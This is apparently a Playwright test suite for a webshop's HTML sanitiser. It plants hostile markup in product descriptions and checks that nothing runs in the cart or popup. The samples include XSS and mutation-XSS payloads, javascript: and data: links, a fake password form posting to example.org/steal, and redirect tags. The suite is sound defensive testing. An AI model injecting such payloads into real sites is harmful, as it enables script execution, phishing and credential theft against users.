import type { Page } from '@playwright/test';
import { openNode } from '../storefront/db/open-node.ts';
import type { Db } from '../storefront/db/schema.ts';
import { serve } from '../storefront/host/listen.ts';
import { seed } from '../storefront/seed/seed.ts';
import { expect, REPORTED_BY_BROWSER, test as base } from './shop.ts';

/** What an editor, or whoever has the editor's password, could write. Each tries to set `ran`. */
const RUNNING = [
  '<script>parent.ran = 1</script>',
  '<img src="x" onerror="ran = 1">',
  "<img src=x onerror='ran=1'//>",
  '<svg onload="ran = 1"></svg>',
  '<svg><animate onbegin="ran = 1" attributeName="x" dur="1s"></animate></svg>',
  '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
  '<iframe src="javascript:parent.ran = 1"></iframe>',
  '<details open ontoggle="ran = 1">details</details>',
  '<input autofocus onfocus="ran = 1">',
  '<video><source onerror="ran = 1" src="x"></video>',
  '<style onload="ran = 1">p { color: red }</style>',
];
/** Runs when it is pressed, or only after a parser has read twice what it wrote once. */
const LATENT = [
  '<a href="javascript:ran=1">link</a>',
  '<a href=" java&#x0A;script:ran=1">link</a>',
  '<a href="data:text/html,<script>parent.ran=1</script>">link</a>',
  '<svg><a xlink:href="javascript:ran=1"><text x="20" y="20">link</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="ran = 1">',
  '<svg></p><style><a id="</style><img src=1 onerror=ran=1>">',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>"></noscript>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror="ran=1"></style></annotation-xml></math>',
  '<form action="https://example.org/steal"><input name="password"><button>Inloggen</button></form>',
  '<p style="position:fixed;inset:0" id="location" class="sw-dialog" name="body" popover>over alles</p>',
  '<base href="https://example.org/"><meta http-equiv="refresh" content="0;url=https://example.org/">',
  '<object data="javascript:ran=1"></object><embed src="javascript:ran=1"><link rel="stylesheet" href="/evil.css">',
];
const SAMPLES = [...RUNNING, ...LATENT];

/**
 * The sanitiser reads markup in a document that is not shown. The page's policy reports a base address and an
 * inline style there as well; that nothing else is reported says that no script, picture or frame got that far.
 */
const REPORTED_WHILE_READING = /base-uri|style-src/;

/** A shop of its own whose products are described like this, one sample each. */
const test = base.extend<object, { hostile: { url: string; ids: string[] } }>({
  hostile: [
    async ({}, use) => {
      const db = await openNode();
      await seed(db, { products: 60 });
      const ids = await describeLike(db, SAMPLES);
      const served = await serve({ port: 0, db });
      await use({ url: served.url, ids });
      await served.close();
      await db.destroy();
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ hostile }, use) => use(hostile.url),
});

async function describeLike(db: Db, samples: readonly string[]): Promise<string[]> {
  const products = await db
    .selectFrom('products')
    .select('id')
    .where('type', '=', 'product')
    .where('stock', '>', 0)
    .where('price_on_request', '=', 0)
    .where('category_id', 'is not', null)
    .limit(samples.length)
    .execute();
  expect(products).toHaveLength(samples.length);
  for (const [index, { id }] of products.entries()) {
    const text = `<b>Regel ${index}</b> ${samples[index]}`;
    const short_detail = JSON.stringify({ nl: text, de: text, en: text });
    await db.updateTable('products').set({ short_detail }).where('id', '=', id).execute();
  }
  return products.map(({ id }) => id);
}

/** Notes what the page's policy had to stop. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample, blockedURI }) =>
      stopped.push(`${violatedDirective} ${blockedURI} ${sample}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
}

const hasRun = (page: Page) => page.evaluate(() => 'ran' in window);

/** Everything in sanitised texts that is not text, lists, tables, links and pictures. */
function leftovers(page: Page): Promise<string[]> {
  return page
    .locator('.sw-html')
    .evaluateAll((texts) =>
      texts.flatMap((text) =>
        [...text.querySelectorAll('*')]
          .filter(
            (element) =>
              element.matches(
                'script, style, link, meta, base, iframe, object, embed, form, input, button, svg, math, template',
              ) ||
              [...element.attributes].some(
                ({ name, value }) =>
                  !/^(alt|href|src|target|rel|title|open|width|height)$/.test(name) ||
                  /^\s*(java|data:text)/i.test(value),
              ),
          )
          .map(({ outerHTML }) => outerHTML),
      ),
    );
}

/** The cart with a line for every sample, once all of their texts have been sanitised. */
async function openHostileCart(page: Page, ids: readonly string[], fill: (id: string) => Promise<void>) {
  for (const id of ids) await fill(id);
  await page.goto('/cart');
  const texts = page.locator('.sw-cart-page__description');
  await expect(texts.locator('b').filter({ hasText: /^Regel \d+$/ })).toHaveCount(ids.length);
  return texts;
}

test('the samples are what they seem: each runs where nobody looks after it', async ({ page }) => {
  for (const sample of RUNNING) {
    await page.goto('about:blank');
    await page.setContent(`<!doctype html><body>${sample}`);
    await expect.poll(() => hasRun(page), { message: sample }).toBe(true);
  }
});

test('nothing of it runs in the cart, its words stay, and no script gets as far as the policy', async ({
  page,
  hostile,
  fill,
  complaints,
}) => {
  const stopped = await watchPolicy(page);
  const texts = await openHostileCart(page, hostile.ids, fill);
  await page.waitForLoadState('networkidle');
  expect(await leftovers(page)).toEqual([]);
  for (const link of await texts.getByText('link', { exact: true }).all()) await link.click();
  expect(await hasRun(page)).toBe(false);
  expect(new URL(page.url()).pathname).toBe('/cart');
  expect((await stopped()).filter((what) => !REPORTED_WHILE_READING.test(what))).toEqual([]);
  complaints.expectOnly(REPORTED_BY_BROWSER, REPORTED_WHILE_READING);
});

test('nothing of it runs on a page without a policy', async ({ page, hostile, fill }) => {
  await page.route('**/cart', async (route) => {
    const answer = await route.fetch();
    const { 'content-security-policy': _, ...headers } = answer.headers();
    await route.fulfill({ response: answer, headers });
  });
  const texts = await openHostileCart(page, hostile.ids, fill);
  await page.waitForLoadState('networkidle');
  expect(await leftovers(page)).toEqual([]);
  for (const link of await texts.getByText('link', { exact: true }).all()) await link.click();
  expect(await hasRun(page)).toBe(false);
});

test('nothing of it runs in the popup', async ({ page, hostile, complaints }) => {
  const stopped = await watchPolicy(page);
  await page.goto('/growatt-min-3000tl-xh');
  await page.getByRole('button', { name: 'In winkelwagen' }).first().click();
  const popup = page.getByRole('dialog', { name: 'Toegevoegd aan je winkelwagen!' });
  await expect(popup.getByText(/^Regel \d+$/).first()).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(hostile.ids).toContain('512');
  expect(await leftovers(page)).toEqual([]);
  expect(await hasRun(page)).toBe(false);
  expect(await stopped()).toEqual([]);
  complaints.expectOnly(REPORTED_BY_BROWSER);
});
